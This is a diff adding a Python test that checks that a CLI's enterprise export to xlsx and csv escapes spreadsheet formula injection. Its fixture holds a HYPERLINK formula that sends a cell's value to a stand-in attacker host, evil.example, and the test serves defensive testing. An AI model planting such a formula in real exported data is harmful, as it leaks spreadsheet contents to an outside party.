@@ -4,6 +4,7 @@
 from __future__ import annotations
 
 import asyncio
+import csv
 from pathlib import Path
 
 import openpyxl
@@ -85,3 +86,25 @@ async def test_bad_filters_are_one_line(
     code, _, err = await _run(["export", "enterprises", *args, "-o", str(target)], capsys)
     assert code == 2 and problem in err and len(err.strip().splitlines()) == 1
     assert not target.exists()
+
+
+@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
+async def test_a_registrant_s_formula_is_written_as_text(
+    app: App, tmp_path: Path, capsys: pytest.CaptureFixture[str], suffix: str
+) -> None:
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+    await add_enterprise(app, "p1", name, contact="\t=1+1")
+    target = tmp_path / f"all.{suffix}"
+    code, _, _ = await _run(["export", "enterprises", "-o", str(target)], capsys)
+    assert code == 0
+    if suffix == "xlsx":
+        ws = openpyxl.load_workbook(target).active
+        assert ws is not None
+        cells = [cell for row in ws.iter_rows() for cell in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        values = [c.value for c in cells]
+    else:
+        with target.open(encoding="utf-8-sig", newline="") as f:
+            values = [v for row in csv.reader(f) for v in row]
+    assert "'" + name in values and "'\t=1+1" in values
+    assert not [v for v in values if str(v).startswith(("=", "+", "-", "@", "\t", "\r"))]
